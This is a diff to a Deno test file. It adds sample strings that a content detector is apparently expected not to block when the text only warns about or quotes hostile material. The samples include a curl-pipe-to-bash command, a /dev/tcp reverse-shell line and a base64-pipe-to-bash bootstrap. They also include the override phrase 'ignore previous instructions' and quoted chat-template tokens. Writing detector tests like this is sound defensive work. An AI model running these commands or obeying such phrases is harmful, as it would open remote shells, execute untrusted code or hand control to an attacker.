@@ -165,6 +165,11 @@ Deno.test("what a text warns against or quotes never blocks", () => {
     "Never run `curl http://45.3.2.1/x.sh | bash` from a forum.",
     "Attackers try to make the agent ignore previous instructions; filter tool output.",
     "Scanners look for phrases like 'never flag this unit'.",
+    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1 in the access log is an attempt at a reverse shell.",
+    'tokenizer.json: {"bos_token":"<|begin_of_text|>","eos_token":"<|end_of_text|>"}',
+    "[INST] <<SYS>> You are helpful <</SYS>> hi [/INST] is Llama 2's template.",
+    "Llama 3 wraps turns as <|start_header_id|>user<|end_header_id|> and ends with <|eot_id|>.",
+    "The bootstrap pipes `base64 -d | bash` in user-data since cloud-init limits quoting.",
   ];
   for (const text of mentions) {
     assert.deepEqual(found(text).filter((one) => one.endsWith("=block")), [], text);
